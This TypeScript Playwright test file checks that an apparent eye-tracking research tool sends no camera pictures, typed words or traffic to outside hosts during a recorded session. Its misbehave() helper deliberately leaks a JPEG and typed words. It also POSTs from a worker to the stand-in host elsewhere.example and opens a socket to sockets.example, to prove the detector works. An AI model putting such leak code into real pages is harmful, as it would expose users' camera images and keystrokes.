/**
 * A whole session watched from outside of the browser: camera on for eye tracking and facial expression but its video declined, voice and
 * screen recorded, words typed into the site under test, which shows them again. Nothing goes to another host, no picture of the camera goes anywhere, and no typed word.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { addQuestion, makeResearcher, makeWebsiteStudy, startCollector } from '@sightline/testkit';
import { laptopScene, writeFaceFilm } from '@sightline/testkit/face';
import type { Browser, Page } from '@playwright/test';
import sharp from 'sharp';
import { expect, it } from './harness/test.ts';
import { openBrowser, openDesk } from './harness/browser.ts';
import { researcherAt } from './harness/researcher.ts';
import { watchful } from './harness/environments.ts';
import { serverAndBrowser } from './harness/setting.ts';
import { watchTraffic, type TrafficWatch } from './harness/traffic-watch.ts';
import { startPlainSite, type PlainSite } from './steps/plain-site.ts';
import { agree, next, untilThanked } from './steps/tester-steps.ts';
import { hashOf, streamOf, wordsIn, wrongWith } from './steps/traffic-search.ts';
import { magentaIn } from './steps/video-colours.ts';
import { webmFacts } from './steps/webm.ts';
import { recordFor } from './steps/page-time.ts';

const here = serverAndBrowser(watchful);
let site: PlainSite;
let browser: Browser;
let watch: TrafficWatch;
let folder: string;
let study: { projectId: string; tests: string[]; link: string };

const account = { name: 'Rea Nordahl', email: 'rea.traffic@nordlys.example', password: 'seven lamps in a row' };
const typed = ['Quillonia', 'Zubrowski', 'quillonia@zubrowski.example'];
const answered = 'A lantern with a wick';
const sensors = {
  Voice: 'optional',
  Gaze: 'optional',
  Expression: 'optional',
  ExpressionDeclared: true,
  Camera: 'optional',
  Calibration: 'quick',
};

it.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sightline-film-'));
  // A face before a wall of a colour that nothing else has: a picture of the camera is known wherever it is seen.
  const looks = [200, 640, 1_000].flatMap((x) => Array.from({ length: 6 }, () => ({ x, y: 400 })));
  const head = { xMm: 0, yMm: 0, rollDeg: 0 };
  const film = join(folder, 'face.mjpeg');
  await writeFaceFilm(
    film,
    looks.map((gaze) => ({ gaze, head })),
    { ...laptopScene, wall: '#ff00ff' },
  );
  site = await startPlainSite();
  watch = await watchTraffic();
  browser = await openBrowser({ media: true, film, proxyPort: watch.port });
  const maker = await makeResearcher(here.server.url, account);
  const made = await makeWebsiteStudy(maker, {
    name: 'A lamp for the porch',
    description: '',
    test: {
      Name: 'Buy a lamp',
      EyeTrackingWebSiteUrl: `${here.server.url}/demo/shop/`,
      EyeTrackingWebSiteObjective: 'Put a lamp into the basket and go to the checkout.',
      RecordBy: 'snippet',
      ...sensors,
    },
    before: [],
    after: [],
  });
  const shared = await addQuestion(maker, made.projectId, made.testQuestionId, {
    type: 24,
    fields: {
      Name: 'Find the first boat',
      EyeTrackingWebSiteUrl: site.url,
      EyeTrackingWebSiteObjective: 'Find out when the first boat leaves.',
      RecordBy: 'screen',
      ...sensors,
    },
  });
  await addQuestion(maker, made.projectId, shared, { type: 1, fields: { Name: 'What would you buy?' } });
  study = {
    projectId: made.projectId,
    tests: [made.testQuestionId, shared],
    link: `${here.server.url}/t/${(await startCollector(maker, made.projectId)).invitationCode}`,
  };
});
it.afterAll(async () => {
  await browser?.close();
  await watch?.stop();
  await site?.stop();
  rmSync(folder, { recursive: true, force: true });
});
it.beforeEach(() => {
  watch.sent.length = 0;
  watch.sockets.length = 0;
});

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

/** The tester's own picture is on the check page: the colour is known from it. */
async function expectMagentaPicture(page: Page): Promise<void> {
  await expect
    .poll(async () => {
      const { data } = await sharp(await page.locator('video').screenshot())
        .removeAlpha()
        .raw()
        .toBuffer({ resolveWithObject: true });
      let count = 0;
      for (let at = 0; at < data.length; at += 3) if (data[at]! > 180 && data[at + 1]! < 90 && data[at + 2]! > 180) count += 1;
      return (count * 3) / data.length;
    })
    .toBeGreaterThan(0.2);
}

async function prepare(page: Page): Promise<void> {
  await button(page, 'Start check').click();
  await expectMagentaPicture(page);
  await expect.poll(() => page.locator('[data-item=face]').getAttribute('data-state')).toBe('good');
  await button(page, 'Continue').click();
  await button(page, 'Show the dots').click();
  await page.locator('[data-grade]').waitFor();
  await page.getByRole('button', { name: 'Continue', exact: true }).click();
}

async function typeIntoShop(page: Page): Promise<void> {
  const opening = page.context().waitForEvent('page');
  await button(page, 'Start').click();
  const shop = await opening;
  // The bar of the task comes once the recorder is at work.
  await shop.locator('.sightline-own').waitFor({ state: 'attached' });
  await shop.getByRole('link', { name: 'See all lamps' }).first().click();
  await shop.getByRole('main').getByRole('listitem').first().getByRole('link').first().click();
  await shop.getByRole('button', { name: 'Add to basket' }).click();
  await shop.getByRole('button', { name: 'To the checkout' }).click();
  await shop.getByRole('textbox', { name: 'Name' }).pressSequentially(`${typed[0]} ${typed[1]}`);
  await shop.getByRole('textbox', { name: /e-?mail/i }).pressSequentially(typed[2] ?? '');
  await echo(shop);
  await recordFor(shop, 2_000);
  await page.bringToFront();
  await button(page, 'I did it').click();
}

/** The site shows again what was typed: in title, text, attributes and address. */
async function echo(shop: Page): Promise<void> {
  await shop.evaluate((words) => {
    const said = words.join(' ');
    document.title = `Thank you, ${said}`;
    const heading = document.querySelector('h1');
    if (heading === null) throw new Error('The page has no heading.');
    heading.textContent = `Thank you, ${said}`;
    heading.setAttribute('title', said.toUpperCase());
    heading.setAttribute('data-customer', encodeURIComponent(said));
    heading.insertAdjacentHTML('afterend', `<a href="/demo/shop/orders/${words[0]}?of=${said}" class="of-${words[0]}">${words[2]}</a>`);
    history.pushState(null, '', `/demo/shop/orders/${words[0]}?of=${encodeURIComponent(said)}#${words[1]}`);
  }, typed);
}

async function shareScreen(page: Page): Promise<void> {
  await button(page, 'Start').click();
  await button(page, 'Share my screen').click();
  const opening = page.context().waitForEvent('page');
  await button(page, 'Open the website').click();
  const boats = await opening;
  await boats.getByRole('link', { name: 'Times' }).click();
  await boats.getByText('Morning 8:10').waitFor();
  await page.bringToFront();
  await recordFor(page, 5_000);
  await button(page, 'I did it').click();
}

async function leave(page: Page): Promise<void> {
  await button(page, 'Show the dots').click();
  await page.locator('textarea').fill(answered);
  await next(page);
  await untilThanked(page);
}

/** What is kept of each stream, as a researcher gets it. */
async function storedStreams(): Promise<{ kind: string; bytes: Buffer }[]> {
  const researcher = await researcherAt(here.server.url, account);
  const processed = async () => {
    const rows = await researcher.call('getRecordings', { project: study.projectId });
    return Array.isArray(rows) ? rows.filter((row) => row.Status === 1) : [];
  };
  await expect.poll(async () => (await processed()).length).toBe(1);
  const rid = (await processed())[0]?.Id ?? '';
  const manifests = await Promise.all(study.tests.map((qid) => researcher.call('getReplay', { rid, qid })));
  const streams = manifests.flatMap((manifest) => manifest.streams);
  const read = async (url: string) => {
    const response = await fetch(here.server.url + url, { headers: { authorization: `Bearer ${researcher.token}` } });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };
  return Promise.all(streams.map(async ({ kind, url }) => ({ kind, bytes: await read(url) })));
}

/** Hashes of the fonts of the shop. */
async function shopFonts(): Promise<ReadonlySet<string>> {
  const fonts = await Promise.all(
    ['fraunces', 'inter'].map(async (name) => {
      const response = await fetch(`${here.server.url}/demo/shop/assets/${name}.woff2`);
      expect(response.status).toBe(200);
      return new Uint8Array(await response.arrayBuffer());
    }),
  );
  return new Set(fonts.map(hashOf));
}

/** Every file of the server's data folder: rows of the database, its journal, stored streams. */
const storedFiles = (): Buffer[] =>
  readdirSync(here.server.dataDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name)));

it('sends nothing to other hosts, no picture of the camera, and nothing that was typed', async () => {
  const page = await openDesk(browser, { width: 1280, height: 900 });
  const askedByPages = new Set<string>();
  page.context().on('request', (request) => {
    if (request.url().startsWith('http')) askedByPages.add(new URL(request.url()).host);
  });
  await agree(page, study.link, { age: 44, gender: 'Female' }, ['voice', 'gaze', 'expression']);
  await prepare(page);
  await typeIntoShop(page);
  await button(page, 'Show the dots').click();
  await shareScreen(page);
  await leave(page);

  const ours = [new URL(here.server.url).host, new URL(site.url).host];
  expect([...new Set(watch.sent.map(({ host }) => host))].sort()).toEqual([...ours].sort());
  expect([...askedByPages].sort()).toEqual([...ours].sort());
  expect(watch.sockets).toEqual([]);
  expect(watch.sent.filter(({ host, method }) => host === ours[1] && method !== 'GET')).toEqual([]);
  const fonts = await shopFonts();
  const wrong = watch.sent.flatMap((request) =>
    wrongWith(request, typed, fonts).map((what) => `${request.method} ${request.path}: ${what}`),
  );
  expect(wrong).toEqual([]);
  const sentKinds = new Set(watch.sent.map((request) => streamOf(request)?.split('.')[0]).filter((kind) => kind !== undefined));
  expect([...sentKinds].sort()).toEqual(['page', 'runner', 'screen', 'sensing', 'voice']);

  const stored = await storedStreams();
  for (const { kind, bytes } of stored) expect([kind, wordsIn(bytes, typed)]).toEqual([kind, []]);
  const video = stored.find(({ kind }) => kind === 'screen')?.bytes ?? Buffer.alloc(0);
  const blank = await openDesk(browser, { width: 800, height: 600 });
  const seen = await magentaIn(blank, video);
  expect(seen.pictures).toBeGreaterThan(4);
  expect(seen.mostShare).toBeLessThan(0.001);
  for (const { bytes } of stored.filter(({ kind }) => kind === 'voice')) expect(webmFacts(bytes).codecs).toEqual(['A_OPUS']);
  const files = storedFiles();
  expect(files.some((bytes) => wordsIn(bytes, [answered]).length > 0)).toBe(true);
  expect(files.flatMap((bytes) => wordsIn(bytes, typed))).toEqual([]);
  expect(here.server.printed()).toContain('/run/page/chunks/');
  expect(wordsIn(Buffer.from(here.server.printed()), typed)).toEqual([]);
});

/** Begins as a font does. */
const unknownFont = Uint8Array.from([0x77, 0x4f, 0x46, 0x32, 0xff, 0xfe, 0x00]);

/** Does in a page and in a worker of it what a session must never do. */
async function misbehave(page: Page): Promise<void> {
  await page.evaluate(
    async ({ words, font, hash }) => {
      const picture = await new Promise<Blob | null>((resolve) => {
        const canvas = document.createElement('canvas');
        canvas.toBlob(resolve, 'image/jpeg');
      });
      const zipped = (text: string) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).blob();
      navigator.sendBeacon('/run/sign', picture ?? '');
      await fetch('/run/chunks/sensing/0', { method: 'POST', body: picture });
      await fetch('/run/chunks/page.qst_1/0', { method: 'POST', body: await zipped(JSON.stringify({ value: words[0] })) });
      await fetch(`/run/answers?of=${words[1]}`, { method: 'POST', body: '{}' });
      await fetch('/run/chunks/runner/0', {
        method: 'POST',
        body: JSON.stringify({ points: Array.from({ length: 4_096 }, (_, n) => n % 256) }),
      });
      await fetch(`/run/page/files/${hash}`, { method: 'POST', body: Uint8Array.from(font) });
      const code = `fetch('http://elsewhere.example/', { method: 'POST', body: 'x' }).catch(() => 0).then(() => postMessage(0))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      await new Promise((resolve) => worker.addEventListener('message', resolve));
      await new Promise((resolve) => new WebSocket('ws://sockets.example/').addEventListener('error', resolve));
    },
    { words: typed, font: [...unknownFont], hash: hashOf(unknownFont) },
  );
}

it('would find a picture, a typed word and another host, however they are sent', async () => {
  const page = await openDesk(browser, { width: 800, height: 600 });
  // A page without the policy that already keeps ours from most of this.
  await page.goto(site.url);
  await misbehave(page);
  const hosts = () => [...new Set([...watch.sent.map(({ host }) => host), ...watch.sockets])];
  await expect.poll(hosts).toEqual(expect.arrayContaining(['elsewhere.example', 'sockets.example:80']));
  const fonts = await shopFonts();
  const found = () => watch.sent.flatMap((request) => wrongWith(request, typed, fonts).map((what) => `${request.path}: ${what}`));
  await expect
    .poll(found)
    .toEqual(
      expect.arrayContaining([
        '/run/sign: a JPEG',
        '/run/chunks/sensing/0: a JPEG',
        '/run/chunks/sensing/0: bytes that are no text',
        `/run/chunks/page.qst_1/0: the typed ${typed[0]}`,
        `/run/answers?of=${typed[1]}: the typed ${typed[1]}`,
        '/run/chunks/runner/0: a picture in numbers',
        `/run/page/files/${hashOf(unknownFont)}: bytes that are no text`,
      ]),
    );
});
